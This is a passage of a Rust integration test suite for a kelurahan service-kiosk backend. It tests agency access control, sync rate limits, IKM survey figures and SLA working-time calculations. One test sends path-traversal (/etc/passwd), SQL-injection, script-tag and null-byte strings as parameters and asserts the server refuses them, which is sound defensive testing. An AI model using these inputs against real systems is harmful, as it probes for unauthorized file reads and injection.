        call(&f.app, "POST", "/api/enroll", None, Some(json!({ "code": code_, "actor": actor(1), "version": "t" })))
            .await;
    let token = body["token"].as_str().unwrap().to_owned();
    let empty = loket_shared::sync::SyncRequest {
        version: loket_shared::sync::PROTOCOL_VERSION,
        client: "t".into(),
        push: vec![],
        pull_after: 0,
        acked: 0,
        through: 0,
        pending: 0,
    }
    .encode();
    let sync = || {
        let req = Request::builder()
            .method("POST")
            .uri("/api/sync")
            .header(header::AUTHORIZATION, format!("Bearer {token}"))
            .body(Body::from(empty.clone()))
            .unwrap();
        f.app.clone().oneshot(req)
    };
    let burst = f.state.config.kiosk_syncs_per_minute / 2;
    for i in 0..burst {
        assert_eq!(sync().await.unwrap().status(), StatusCode::OK, "sync {i} of the burst");
    }
    let resp = sync().await.unwrap();
    assert_eq!(resp.status(), StatusCode::TOO_MANY_REQUESTS);
    assert!(resp.headers().contains_key(header::RETRY_AFTER));
    let bytes = axum::body::to_bytes(resp.into_body(), 1 << 16).await.unwrap();
    let v: Value = serde_json::from_slice(&bytes).unwrap();
    assert_eq!(code(&v), "rate_limited");
}

/// An agency sees the requests handed to it, and only those: another
/// agency gets 404 for the same request, its personal data and its events;
/// hostile strings in path and query parameters are refused as bad input.
#[tokio::test]
async fn agencies_see_only_their_own_requests_and_parameters_are_checked() {
    let f = fixture();
    for (name, agency) in [("dukcapil", "DISDUKCAPIL"), ("dinsos", "DINSOS")] {
        setup::add_user(
            &setup::Place::local(&f.state.config.data),
            NewUser {
                username: name.parse().unwrap(),
                password: format!("rahasia-{name}-1"),
                role: Role::Agency,
                agency: Some(agency.into()),
                region: Vec::new(),
                kelurahan: None,
            },
        )
        .unwrap();
    }
    let id = push_request(&f.state, "1271014101900003");
    let admin = admin_token(&f.app).await;
    let events = format!("/api/admin/requests/{id}/events");
    let (status, v) = call(&f.app, "POST", &events, Some(&admin), Some(json!({ "to": "in_progress" }))).await;
    assert_eq!(status, StatusCode::CREATED, "{v}");
    let handoff = json!({ "to": "handed_off", "agency": "DISDUKCAPIL" });
    let (status, v) = call(&f.app, "POST", &events, Some(&admin), Some(handoff)).await;
    assert_eq!(status, StatusCode::CREATED, "{v}");

    let token = |name: &'static str| {
        let app = f.app.clone();
        async move { login(&app, name, &format!("rahasia-{name}-1")).await.1["token"].as_str().unwrap().to_owned() }
    };
    let (mine, other) = (token("dukcapil").await, token("dinsos").await);
    let detail = format!("/api/admin/requests/{id}");
    assert_eq!(call(&f.app, "GET", &detail, Some(&mine), None).await.0, StatusCode::OK);
    assert_eq!(call(&f.app, "GET", &detail, Some(&other), None).await.0, StatusCode::NOT_FOUND);
    let personal = format!("{detail}/personal?reason=proses%20KK");
    let (status, v) = call(&f.app, "GET", &personal, Some(&mine), None).await;
    assert_eq!((status, v["nik"].as_str()), (StatusCode::OK, Some("1271014101900003")), "{v}");
    assert_eq!(call(&f.app, "GET", &personal, Some(&other), None).await.0, StatusCode::NOT_FOUND);
    let done = json!({ "to": "completed", "note": "KK terbit" });
    assert_eq!(call(&f.app, "POST", &events, Some(&other), Some(done.clone())).await.0, StatusCode::NOT_FOUND);
    let (_, list) = call(&f.app, "GET", "/api/admin/requests", Some(&other), None).await;
    assert_eq!(list["items"].as_array().map(Vec::len), Some(0), "{list}");

    for hostile in ["..%2F..%2Fetc%2Fpasswd", "1%27%20OR%20%271%27%3D%271", "%3Cscript%3E", "%00"] {
        let (status, _) = call(&f.app, "GET", &format!("/api/admin/requests/{hostile}"), Some(&admin), None).await;
        assert_eq!(status, StatusCode::NOT_FOUND, "{hostile}");
        let (status, v) =
            call(&f.app, "GET", &format!("/api/admin/requests?kelurahan={hostile}"), Some(&admin), None).await;
        assert!(status.is_client_error(), "{hostile}: {status} {v}");
        let (status, v) = call(&f.app, "GET", &format!("/api/admin/ikm?group_by={hostile}"), Some(&admin), None).await;
        assert!(status.is_client_error(), "{hostile}: {status} {v}");
    }
    // Taking: only the agency holding it, only for itself, only once.
    let take = json!({ "to": "in_progress", "agency": "DISDUKCAPIL", "note": "diambil" });
    let post = |token: &String, body: &Value| {
        let (app, uri, token, body) = (f.app.clone(), events.clone(), token.clone(), body.clone());
        async move { call(&app, "POST", &uri, Some(&token), Some(body)).await }
    };
    let (status, v) = post(&admin, &take).await;
    assert_eq!((status, code(&v)), (StatusCode::UNPROCESSABLE_ENTITY, "agency_not_expected"), "{v}");
    let (status, v) = post(&mine, &json!({ "to": "in_progress", "agency": "DINSOS" })).await;
    assert_eq!((status, code(&v)), (StatusCode::CONFLICT, "forbidden_transition"), "{v}");
    let (status, v) = post(&mine, &take).await;
    assert_eq!((status, v["status"].as_str()), (StatusCode::CREATED, Some("in_progress")), "{v}");
    let (_, d) = call(&f.app, "GET", &detail, Some(&mine), None).await;
    assert_eq!((d["status"].as_str(), d["agency"].as_str()), (Some("in_progress"), Some("DISDUKCAPIL")), "{d}");
    assert_eq!(post(&mine, &take).await.0, StatusCode::CONFLICT, "taken once");
    // Returned to the kelurahan: the agency may no longer act on it.
    let (status, v) = post(&mine, &json!({ "to": "in_progress", "note": "berkas kurang" })).await;
    assert_eq!(status, StatusCode::CREATED, "{v}");
    let (_, d) = call(&f.app, "GET", &detail, Some(&mine), None).await;
    assert_eq!((d["status"].as_str(), d["agency"].as_str()), (Some("in_progress"), None), "{d}");
    let (status, v) = post(&mine, &done).await;
    assert_eq!((status, code(&v)), (StatusCode::FORBIDDEN, "not_your_agency"), "{v}");
    // Handed over again, taken, and completed by the agency.
    assert_eq!(post(&admin, &json!({ "to": "handed_off", "agency": "DISDUKCAPIL" })).await.0, StatusCode::CREATED);
    assert_eq!(post(&mine, &take).await.0, StatusCode::CREATED);
    // Issue 16, item 5: forwarded to another agency with a reason, which
    // then sees it; its return goes back to the agency below it.
    // Not to an agency the catalog does not know: nobody could take it.
    let nowhere = json!({ "to": "handed_off", "agency": "XYZ", "note": "perlu verifikasi DTKS" });
    let (status, v) = post(&mine, &nowhere).await;
    assert_eq!((status, code(&v)), (StatusCode::UNPROCESSABLE_ENTITY, "unknown_agency"), "{v}");
    let forward = json!({ "to": "handed_off", "agency": "DINSOS", "note": "perlu verifikasi DTKS" });
    let (status, v) = post(&mine, &forward).await;
    assert_eq!(status, StatusCode::CREATED, "{v}");
    let (_, d) = call(&f.app, "GET", &detail, Some(&other), None).await;
    assert_eq!((d["agency"].as_str(), d["waiting"].clone()), (Some("DINSOS"), json!(["DISDUKCAPIL"])), "{d}");
    let (status, v) = post(&other, &json!({ "to": "in_progress", "agency": "DINSOS" })).await;
    assert_eq!(status, StatusCode::CREATED, "{v}");
    // Not to the kelurahan while Disdukcapil waits below: to Disdukcapil.
    let (status, v) = post(&other, &json!({ "to": "in_progress", "note": "terverifikasi" })).await;
    assert_eq!((status, code(&v)), (StatusCode::CONFLICT, "agencies_waiting"), "{v}");
    let back = json!({ "to": "in_progress", "agency": "DISDUKCAPIL", "note": "terverifikasi" });
    let (status, v) = post(&other, &back).await;
    assert_eq!(status, StatusCode::CREATED, "{v}");
    let (_, d) = call(&f.app, "GET", &detail, Some(&mine), None).await;
    assert_eq!(
        (d["status"].as_str(), d["agency"].as_str(), d["waiting"].clone()),
        (Some("in_progress"), Some("DISDUKCAPIL"), json!([])),
        "{d}"
    );
    // Issue 16, item 7: the agency's completion carries its result (the
    // new KK's number); a malformed one is refused and writes nothing.
    let mut with_result = done.clone();
    with_result["result_ref"] = json!("KK\u{202e}1271");
    let (status, v) = post(&mine, &with_result).await;
    assert_eq!((status, code(&v)), (StatusCode::UNPROCESSABLE_ENTITY, "invalid_result_ref"), "{v}");
    let (_, d) = call(&f.app, "GET", &detail, Some(&mine), None).await;
    assert_eq!(d["status"].as_str(), Some("in_progress"), "nothing written: {d}");
    with_result["result_ref"] = json!("  1271012345670001 ");
    let (status, v) = post(&mine, &with_result).await;
    assert_eq!((status, v["status"].as_str()), (StatusCode::CREATED, Some("completed")), "{v}");
    let (_, d) = call(&f.app, "GET", &detail, Some(&admin), None).await;
    assert_eq!(d["results"], json!([{ "agency": "DISDUKCAPIL", "reference": "1271012345670001" }]), "{d}");
    let last = d["events"].as_array().unwrap().last().unwrap().clone();
    assert_eq!(last["result_ref"].as_str(), Some("1271012345670001"), "{last}");
}

// ------------------------------------------------------------------ IKM figures

/// IKM as the regulation states it, computed here independently in plain
/// floating point: NRR = sum / respondents; IKM = Σ NRR × 1/9 × 25, shown
/// with two decimals; grade bands on the converted value.
fn independent_ikm(sums: &[u64; 9], n: u64) -> Option<(f64, &'static str)> {
    if n == 0 {
        return None;
    }
    let nrr_sum: f64 = sums.iter().map(|s| *s as f64 / n as f64).sum();
    let ikm = (nrr_sum / 9.0 * 25.0 * 100.0 + 1e-9).round() / 100.0;
    let grade = if ikm >= 88.31 {
        "A"
    } else if ikm >= 76.61 {
        "B"
    } else if ikm >= 65.0 {
        "C"
    } else {
        "D"
    };
    Some((ikm, grade))
}

/// `num / den` to `places` decimals, by schoolbook long division one digit
/// at a time and half up on the next digit (independent of `skm`).
fn long_division(num: u64, den: u64, places: usize) -> String {
    let mut digits = vec![num / den];
    let mut rest = num % den;
    for _ in 0..=places {
        rest *= 10;
        digits.push(rest / den);
        rest %= den;
    }
    // Half up: carry from the digit after the last one kept, leftwards
    // through nines into the whole part.
    let mut carry = digits.pop().unwrap() >= 5;
    let mut i = digits.len();
    while carry && i > 0 {
        i -= 1;
        digits[i] += 1;
        carry = i > 0 && digits[i] == 10;
        if carry {
            digits[i] = 0;
        }
    }
    let whole = digits[0];
    let frac: String = digits[1..].iter().map(|d| char::from(b'0' + *d as u8)).collect();
    format!("{whole}.{frac}")
}

fn independent_sample_min(n: u64) -> u64 {
    let n = n as f64;
    (3.841 * n * 0.25 / (0.0025 * (n - 1.0) + 3.841 * 0.25)).round() as u64
}

/// One group of generated data: `respondents` ratings whose 9×n scores
/// sum to `total` (spread evenly, so each is 1-4), plus requests without
/// ratings.
struct GenGroup {
    kelurahan: &'static str,
    respondents: u64,
    total: u64,
    unrated: u64,
}

#[tokio::test]
async fn ikm_figures_of_the_api_the_page_and_the_csv_equal_an_independent_computation() {
    let f = fixture();
    // Band edges: 65.00 (C) and 64.44 (D); 76.61 (B) and 76.56 (C); 88.31
    // (A) and 88.28 (B); a group with users but no respondents; a large
    // group past the Krejcie-Morgan table's middle.
    let groups = [
        GenGroup { kelurahan: "12.71.01.1001", respondents: 5, total: 117, unrated: 0 },
        GenGroup { kelurahan: "12.71.01.1002", respondents: 5, total: 116, unrated: 3 },
        GenGroup { kelurahan: "12.71.01.1003", respondents: 50, total: 1379, unrated: 10 },
        GenGroup { kelurahan: "12.71.01.1004", respondents: 50, total: 1378, unrated: 0 },
        GenGroup { kelurahan: "12.71.01.1005", respondents: 100, total: 3179, unrated: 0 },
        GenGroup { kelurahan: "12.71.01.1006", respondents: 100, total: 3178, unrated: 400 },
        GenGroup { kelurahan: "12.71.02.1001", respondents: 0, total: 0, unrated: 7 },
        // Issue 14: each printed edge and its neighbour a hundredth away,
        // on 1000 respondents: 64.99 (D) / 65.00 (C), 76.60 (C) / 76.61
        // (B), 88.30 (B) / 88.31 (A).
        GenGroup { kelurahan: "12.71.03.1001", respondents: 1000, total: 23395, unrated: 0 },
        GenGroup { kelurahan: "12.71.03.1002", respondents: 1000, total: 23399, unrated: 0 },
        GenGroup { kelurahan: "12.71.03.1003", respondents: 1000, total: 27576, unrated: 0 },
        GenGroup { kelurahan: "12.71.03.1004", respondents: 1000, total: 27578, unrated: 0 },
        GenGroup { kelurahan: "12.71.03.1005", respondents: 1000, total: 31789, unrated: 0 },
        GenGroup { kelurahan: "12.71.03.1006", respondents: 1000, total: 31790, unrated: 0 },
    ];
    let wib = time::UtcOffset::from_hms(7, 0, 0).unwrap();
    let q4_start = time::macros::datetime!(2026-10-01 00:00).assume_offset(wib);
    let ms = |t: time::OffsetDateTime| (t.unix_timestamp_nanos() / 1_000_000) as i64;
    let mut expected: BTreeMap<String, ([u64; 9], u64, u64)> = BTreeMap::new();
    f.state
        .db
        .sqlite()
        .unwrap()
        .raw_write(|tx| -> Result<(), crate::store::StoreError> {
            let mut n = 0u64;
            for g in &groups {
                let kel: loket_shared::KelurahanCode = g.kelurahan.parse().unwrap();
                let slots = g.respondents * 9;
                let mut sums = [0u64; 9];
                for i in 0..(g.respondents + g.unrated) {
                    n += 1;
                    let id = format!("doc-{n:06}");
                    // Spread over the quarter: weekends and month ends included.
                    let at = ms(q4_start) + (n as i64 % 90) * 86_400_000 + 3_600_000;
                    tx.execute(
                        "INSERT INTO requests (doc_id, ticket, kelurahan, kiosk, service, status, conflict,
                                               agency, rated, created_at_ms, updated_at_ms)
                         VALUES (?1, ?2, ?3, 'K001', 'SKD', 'completed', 0, NULL, ?4, ?5, ?5)",
                        rusqlite::params![id, format!("K001-1001-{n:03}"), kel.as_str(), i < g.respondents, at],
                    )?;
                    if i < g.respondents {
                        let mut scores = [0i64; 9];
                        for (e, score) in scores.iter_mut().enumerate() {
                            let slot = i * 9 + e as u64;
                            let base = g.total / slots;
                            *score = (base + u64::from(slot < g.total % slots)) as i64;
                            sums[e] += *score as u64;
                        }
                        tx.execute(
                            "INSERT INTO ratings (doc_id, rating_id, at_ms, u1, u2, u3, u4, u5, u6, u7, u8, u9, comment)
                             VALUES (?1, 'r1', ?2, ?3, ?4, ?5, ?6, ?7, ?8, ?9, ?10, ?11, NULL)",
                            rusqlite::params![
                                id, at + 60_000, scores[0], scores[1], scores[2], scores[3], scores[4],
                                scores[5], scores[6], scores[7], scores[8]
                            ],
                        )?;
                    }
                }
                expected.insert(g.kelurahan.into(), (sums, g.respondents, g.respondents + g.unrated));
            }
            // Outside the quarter by one minute, on both sides: not counted.
            for (id, at) in [("doc-before", ms(q4_start) - 60_000), ("doc-after", ms(q4_start) + 92 * 86_400_000)] {
                tx.execute(
                    "INSERT INTO requests (doc_id, ticket, kelurahan, kiosk, service, status, conflict,
                                           agency, rated, created_at_ms, updated_at_ms)
                     VALUES (?1, 'K001-0930-999', '12.71.01.1001', 'K001', 'SKD', 'completed', 0, NULL, 1, ?2, ?2)",
                    rusqlite::params![id, at],
                )?;
                tx.execute(
                    "INSERT INTO ratings (doc_id, rating_id, at_ms, u1, u2, u3, u4, u5, u6, u7, u8, u9)
                     VALUES (?1, 'r1', ?2, 1, 1, 1, 1, 1, 1, 1, 1, 1)",
                    rusqlite::params![id, at],
                )?;
            }
            Ok(())
        })
        .unwrap();
    f.state.db.write(crate::store::projection::rebuild_rollups).unwrap();

    // The grade of every designed edge, by the independent computation.
    let grades: Vec<&str> = groups
        .iter()
        .map(|g| {
            let (sums, n, _) = &expected[g.kelurahan];
            independent_ikm(sums, *n).map_or("-", |(_, grade)| grade)
        })
        .collect();
    assert_eq!(
        grades,
        ["C", "D", "B", "C", "A", "B", "-", "D", "C", "C", "B", "B", "A"],
        "the data covers the band edges"
    );
    let printed: Vec<String> = groups[7..]
        .iter()
        .map(|g| {
            let (sums, n, _) = &expected[g.kelurahan];
            format!("{:.2}", independent_ikm(sums, *n).unwrap().0)
        })
        .collect();
    assert_eq!(printed, ["64.99", "65.00", "76.60", "76.61", "88.30", "88.31"], "the edges and their neighbours");

    // The API.
    let token = admin_token(&f.app).await;
    let (status, body) =
        call(&f.app, "GET", "/api/admin/ikm?from=2026-10-01&to=2026-12-31&group_by=kelurahan", Some(&token), None)
            .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let api: BTreeMap<String, Value> =
        body["groups"].as_array().unwrap().iter().map(|g| (g["key"].as_str().unwrap().to_owned(), g.clone())).collect();
    assert_eq!(api.len(), expected.len());
    for (kel, (sums, n, users)) in &expected {
        let g = &api[kel];
        assert_eq!(g["respondents"], *n, "{kel}");
        assert_eq!(g["service_users"], *users, "{kel}");
        assert_eq!(g["sample_min"], independent_sample_min(*users), "{kel}");
        assert_eq!(g["sample_sufficient"], *n > 0 && *n >= independent_sample_min(*users), "{kel}");
        match independent_ikm(sums, *n) {
            Some((ikm, grade)) => {
                assert!((g["ikm"].as_f64().unwrap() - ikm).abs() < 1e-9, "{kel}: {} vs {ikm}", g["ikm"]);
                assert_eq!(g["grade"], grade, "{kel}");
                for (e, sum) in sums.iter().enumerate() {
                    let nrr = g["nrr"][format!("U{}", e + 1)].as_f64().unwrap();
                    assert!(
                        (nrr - (*sum as f64 / *n as f64 * 1000.0).round() / 1000.0).abs() < 1e-9,
                        "{kel} U{}",
                        e + 1
                    );
                }
            }
            None => assert!(g["ikm"].is_null() && g["grade"].is_null(), "{kel}: no respondents, no IKM"),
        }
    }

    // The page's CSV (what an auditor downloads), through a web session.
    let web_token = web_session(&f);
    let req = Request::builder()
        .uri("/admin/ikm.csv?periode=2026-Q4&per=kelurahan")
        .header(header::COOKIE, format!("__Host-loket_session={web_token}"))
        .body(Body::empty())
        .unwrap();
    let resp = f.app.clone().oneshot(req).await.unwrap();
    assert_eq!(resp.status(), StatusCode::OK);
    let bytes = axum::body::to_bytes(resp.into_body(), 1 << 20).await.unwrap();
    let mut rows = csv::Reader::from_reader(&bytes[..]);
    let headers = rows.headers().unwrap().clone();
    let col = |name: &str| headers.iter().position(|h| h == name).unwrap();
    let mut seen = 0;
    for row in rows.records() {
        let row = row.unwrap();
        let kel = &row[col("kode")];
        let Some((sums, n, users)) = expected.get(kel) else {
            assert_eq!(kel, "Total");
            continue;
        };
        seen += 1;
        assert_eq!(row[col("responden")].parse::<u64>().unwrap(), *n);
        assert_eq!(row[col("pengguna_layanan")].parse::<u64>().unwrap(), *users);
        assert_eq!(row[col("sampel_minimum")].parse::<u64>().unwrap(), independent_sample_min(*users));
        match independent_ikm(sums, *n) {
            Some((ikm, grade)) => {
                assert_eq!(&row[col("ikm")], format!("{ikm:.2}"), "{kel}");
                assert_eq!(&row[col("mutu")], grade, "{kel}");
                // NRR and weighted NRR to four decimals from the exact sums.
                for (e, sum) in sums.iter().enumerate() {
                    let code = format!("u{}", e + 1);
                    assert_eq!(row[col(&format!("nrr_{code}"))], long_division(*sum, *n, 4), "{kel} {code}");
                    assert_eq!(
                        row[col(&format!("nrr_tertimbang_{code}"))],
                        long_division(*sum, 9 * *n, 4),
                        "{kel} {code}"
                    );
                }
                let total: u64 = sums.iter().sum();
                assert_eq!(row[col("nrr_tertimbang")], long_division(total, 9 * *n, 4), "{kel}");
            }
            None => assert_eq!(&row[col("ikm")], "", "{kel}"),
        }
    }
    assert_eq!(seen, expected.len());

    // The page shows the same figures, and an insufficient sample is marked.
    let req = Request::builder()
        .uri("/admin/ikm?periode=2026-Q4&per=kelurahan")
        .header(header::COOKIE, format!("__Host-loket_session={web_token}"))
        .body(Body::empty())
        .unwrap();
    let resp = f.app.clone().oneshot(req).await.unwrap();
    assert_eq!(resp.status(), StatusCode::OK);
    let html = String::from_utf8(axum::body::to_bytes(resp.into_body(), 1 << 22).await.unwrap().to_vec()).unwrap();
    for (kel, (sums, n, users)) in &expected {
        let at = html.find(&format!("data-key=\"{kel}\"")).unwrap_or_else(|| panic!("{kel} on the page"));
        let row = &html[at..at + html[at..].find("</tr>").unwrap()];
        match independent_ikm(sums, *n) {
            Some((ikm, _)) => assert!(row.contains(&format!("{ikm:.2}")), "{kel}: {row}"),
            None => assert!(row.contains("—"), "{kel}: {row}"),
        }
        let sufficient = *n > 0 && *n >= independent_sample_min(*users);
        assert_eq!(row.contains("Sampel kurang"), !sufficient, "{kel}: {row}");
    }
    // The regulation's breakdown of the whole period: element names in the
    // heads, NRR and weighted NRR per element, the unit IKM, the lowest.
    let (mut all, mut all_n) = ([0u64; 9], 0u64);
    for (sums, n, _) in expected.values() {
        all_n += n;
        for (a, s) in all.iter_mut().zip(sums) {
            *a += s;
        }
    }
    for info in &loket_shared::skm::ELEMENTS {
        assert!(html.contains(info.name_id), "{} named on the page", info.name_id);
        let at = html.find(&format!("data-element=\"{}\"", info.element.code())).unwrap();
        let row = &html[at..at + html[at..].find("</tr>").unwrap()];
        let sum = all[info.element.index()];
        assert!(row.contains(&format!(">{}<", long_division(sum, all_n, 4))), "{row}");
        assert!(row.contains(&format!(">{}<", long_division(sum, 9 * all_n, 4))), "{row}");
    }
    let unit = long_division(all.iter().sum(), 9 * all_n, 4);
    assert!(html.contains(&format!("id=\"ikm-unit\">{unit}<")), "unit IKM {unit}");
}

// ------------------------------------------------------------------ SLA figures

/// Working time by walking the calendar a day at a time (independent of
/// `shared::sla`'s arithmetic): the overlap of `[start, end)` with each
/// Monday-to-Friday local day's service hours, 08:00-16:00, an hour
/// counting an eighth of a working day.
fn walked_working_ms(start: i64, end: i64, offset: time::UtcOffset) -> i64 {
    walked_working_ms_except(start, end, offset, &[])
}

/// The same walk, skipping the given holidays as well.
fn walked_working_ms_except(start: i64, end: i64, offset: time::UtcOffset, holidays: &[time::Date]) -> i64 {
    if end <= start {
        return 0;
    }
    let to_local = |ms: i64| {
        time::OffsetDateTime::from_unix_timestamp_nanos(i128::from(ms) * 1_000_000).unwrap().to_offset(offset)
    };
    let mut day = to_local(start).date();
    let mut total = 0;
    loop {
        let day_start = (day.midnight().assume_offset(offset).unix_timestamp_nanos() / 1_000_000) as i64;
        if day_start >= end {
            return total;
        }
        let (open, close) = (day_start + 8 * 3_600_000, day_start + 16 * 3_600_000);
        let weekday = !matches!(day.weekday(), time::Weekday::Saturday | time::Weekday::Sunday);
        if weekday && !holidays.contains(&day) {
            total += (end.min(close) - start.max(open)).max(0) * 3;
        }
        day = day.next_day().unwrap();
    }
}

/// The projection's calendars for WIB, the city's default hours and no
/// holidays.
fn plain_calendars() -> crate::store::projection::Calendars {
    crate::store::projection::Calendars {
        offset: time::UtcOffset::from_hms(7, 0, 0).unwrap(),
        holidays: loket_shared::sla::Holidays::none(),
        city: loket_shared::sla::ServiceHours::CITY_DEFAULT,
        kelurahan: std::collections::HashMap::new(),
    }
}

/// Holidays are working-day exceptions set centrally: a finished
/// request's working time equals a calendar walk that skips weekends and
/// the catalog's holidays, and adding or removing a holiday in its span
/// changes its working time (and the SLA rollups) by exactly that day.
#[tokio::test]
async fn holidays_change_working_time_and_are_checked() {
    let f = fixture();
    let wib = time::UtcOffset::from_hms(7, 0, 0).unwrap();
    f.state.db.write(|tx| crate::central::ensure_catalog(tx, &f.state.writer)).unwrap();
    let id = push_request_n(&f.state, "1271010101900003", 1);
    let admin = admin_token(&f.app).await;
    let events = format!("/api/admin/requests/{id}/events");
    for to in ["in_progress", "completed"] {
        let (status, v) = call(&f.app, "POST", &events, Some(&admin), Some(json!({ "to": to }))).await;
        assert_eq!(status, StatusCode::CREATED, "{v}");
    }
    let projected = || {
        f.state
            .db
            .sqlite()
            .unwrap()
            .raw_read(|c| {
                Ok::<(i64, i64, i64), crate::store::StoreError>(c.query_row(
                    "SELECT created_at_ms, finished_at_ms, working_ms FROM requests WHERE doc_id = ?1",
                    [&id],
                    |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?)),
                )?)
            })
            .unwrap()
    };
    // Filed 2025-11-28 (Friday), finished now: a year of weekends and the
    // built-in fixed holidays in between.
    let (created, finished, working) = projected();
    let built_in: Vec<time::Date> =
        toml::from_str::<loket_shared::reference::Catalog>(loket_shared::reference::DEFAULT_CATALOG_TOML)
            .unwrap()
            .holidays
            .iter()
            .map(|h| h.date)
            .collect();
    assert!(built_in.contains(&time::macros::date!(2026 - 08 - 17)));
    assert_eq!(working, walked_working_ms_except(created, finished, wib, &built_in));

    // A local holiday on a Wednesday (Hari Jadi Kota Medan, 1 July),
    // entered by an admin: one working day less.
    let lebaran = "/api/admin/catalog/holidays/2026-07-01";
    let (status, v) = call(&f.app, "PUT", lebaran, Some(&admin), Some(json!({ "name": "Hari Jadi Kota Medan" }))).await;
    assert_eq!((status, v["reprojected"].as_u64()), (StatusCode::OK, Some(1)), "{v}");
    let (_, _, with_lebaran) = projected();
    assert_eq!(working - with_lebaran, 86_400_000);
    let mut days = built_in.clone();
    days.push(time::macros::date!(2026 - 07 - 01));
    assert_eq!(with_lebaran, walked_working_ms_except(created, finished, wib, &days));
    let (_, catalog) = call(&f.app, "GET", "/api/admin/catalog", Some(&admin), None).await;
    assert!(catalog["holidays"].as_array().unwrap().iter().any(|h| h["date"] == "2026-07-01"), "{catalog}");
    // A Saturday holiday changes nothing; removing Lebaran restores the day.
    let (status, _) = call(
        &f.app,
        "PUT",
        "/api/admin/catalog/holidays/2026-03-21",
        Some(&admin),
        Some(json!({ "name": "Idul Fitri 2" })),
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(projected().2, with_lebaran);
    assert_eq!(call(&f.app, "DELETE", lebaran, Some(&admin), None).await.0, StatusCode::OK);
    assert_eq!(projected().2, working, "back to the built-in holidays");

    // Bad input: a wrong date, an empty or control-character name, an
    // unknown day to remove.
    for (uri, body, code_expected) in [
        ("/api/admin/catalog/holidays/2026-02-30", json!({ "name": "x" }), "invalid_date"),
        ("/api/admin/catalog/holidays/20260320", json!({ "name": "x" }), "invalid_date"),
        ("/api/admin/catalog/holidays/2026-03-20", json!({ "name": "  " }), "invalid_holiday"),
        ("/api/admin/catalog/holidays/2026-03-20", json!({ "name": "a\u{7}b" }), "invalid_holiday"),
    ] {
        let (status, v) = call(&f.app, "PUT", uri, Some(&admin), Some(body)).await;
        assert_eq!((status, code(&v)), (StatusCode::UNPROCESSABLE_ENTITY, code_expected), "{uri}: {v}");
    }
    assert_eq!(call(&f.app, "DELETE", lebaran, Some(&admin), None).await.0, StatusCode::NOT_FOUND);
    assert_eq!(projected().2, working, "refused edits change nothing");
}

#[test]
fn finish_times_are_bounded_by_the_servers_receipts() {
    use loket_shared::workflow::{self, Event, EventKind, Status};
    let wib = time::UtcOffset::from_hms(7, 0, 0).unwrap();
    let kel: loket_shared::KelurahanCode = "12.71.01.1001".parse().unwrap();
    let created = 1_795_000_000_000; // a Thursday
    let view = loket_shared::request::RequestView {
        id: "0192f1e2-0000-7000-8000-000000000001".parse().unwrap(),
        ticket: "K001-1128-001".parse().unwrap(),
        kelurahan: kel,
        kiosk: "K001".parse().unwrap(),
        service: "SKD".parse().unwrap(),
        applicant: loket_shared::request::Applicant {
            name: "Ani".parse().unwrap(),
            nik: "1271010101900003".parse().unwrap(),
            phone: None,
        },
        created_at_ms: created,
        hlc: loket_shared::Hlc::ZERO,
        rating_key: None,
        events: vec![],
        ratings: vec![],
    };
    let ev = |id: &str, at: i64, to: Status, parents: Vec<String>| Event {
        id: id.into(),
        // The HLC orders; the kiosk's wall clock (`at_ms`) may be anything.
        hlc: loket_shared::Hlc {
            wall_ms: (created + at.rem_euclid(1000)) as u64 + parents.len() as u64 * 1000,
            counter: 0,
        },
        node: "aa".into(),
        at_ms: at,
        by: "x".into(),
        kind: if to == Status::Submitted { EventKind::Create } else { EventKind::Transition },
        from: None,
        to,
        note: None,
        agency: None,
        waiting: Vec::new(),
        result_ref: None,
        parents,
        seal: None,
    };
    let day = 86_400_000;
    let events = vec![
        ev("e1", created, Status::Submitted, vec![]),
        ev("e2", created + 3_600_000, Status::InProgress, vec!["e1".into()]),
        ev("e3", created + 2 * day, Status::Completed, vec!["e2".into()]),
    ];
    let derived = workflow::fold(&events).unwrap();
    // Truthful clocks: two calendar days from Thursday = Thursday + Friday... + Saturday: 1 working day + rest of Fri.
    let (finished, working) = crate::store::projection::finish_times(&view, &derived, (None, None), &plain_calendars())
        .map(|f| (f.at_ms, f.times.kelurahan_ms))
        .unwrap();
    assert_eq!(finished, created + 2 * day);
    assert_eq!(working, walked_working_ms(created, created + 2 * day, wib));
    // The finishing kiosk's clock ran five days fast: the server received
    // the change a day after filing, so the finish is bounded there.
    let fast =
        vec![events[0].clone(), events[1].clone(), ev("e3", created + 7 * day, Status::Completed, vec!["e2".into()])];
    let derived = workflow::fold(&fast).unwrap();
    let (finished, _) = crate::store::projection::finish_times(
        &view,
        &derived,
        (Some(created + 60_000), Some(created + day)),
        &plain_calendars(),
    )
    .map(|f| (f.at_ms, f.times.kelurahan_ms))
    .unwrap();
    assert_eq!(finished, created + day);
    // A clock running days slow never makes the finish precede the filing.
    let slow =
        vec![events[0].clone(), events[1].clone(), ev("e3", created - 3 * day, Status::Completed, vec!["e2".into()])];
    let derived = workflow::fold(&slow).unwrap();
    let (finished, working) = crate::store::projection::finish_times(&view, &derived, (None, None), &plain_calendars())
        .map(|f| (f.at_ms, f.times.kelurahan_ms))
        .unwrap();
    assert_eq!((finished, working), (created, 0));
    // Open requests have no finish.
    let derived = workflow::fold(&events[..2]).unwrap();
    assert!(
        crate::store::projection::finish_times(&view, &derived, (None, None), &plain_calendars())
            .map(|f| (f.at_ms, f.times.kelurahan_ms))
            .is_none()
    );
}

#[tokio::test]
async fn overview_sla_figures_equal_an_independent_computation() {
    let f = fixture();
    let wib = time::UtcOffset::from_hms(7, 0, 0).unwrap();
    let nov = time::macros::datetime!(2026-11-01 00:00).assume_offset(wib);
    let start_ms = (nov.unix_timestamp_nanos() / 1_000_000) as i64;
    f.state.db.write(|tx| crate::central::ensure_catalog(tx, &f.state.writer)).unwrap();
    let kelurahan = ["12.71.01.1001", "12.71.01.1002", "12.71.02.1001"];
    // SKD: 1 working day; SKU: 2; WARIS: 5 (the built-in catalog).
    let services = [("SKD", 1i64), ("SKU", 2), ("WARIS", 5)];
    let mut rng = 0x9E37_79B9_7F4A_7C15u64;
    let mut next = |n: u64| {
        rng ^= rng << 13;
        rng ^= rng >> 7;
        rng ^= rng << 17;
        rng % n
    };
    // (filed, finished, within, open) per kelurahan, computed here.
    let mut expected: BTreeMap<&str, (u64, u64, u64, u64)> = BTreeMap::new();
    let mut rows = Vec::new();
    for i in 0..300u64 {
        let kel = kelurahan[next(3) as usize];
        let (service, sla_days) = services[next(3) as usize];
        // Filed any minute of November, weekends included.
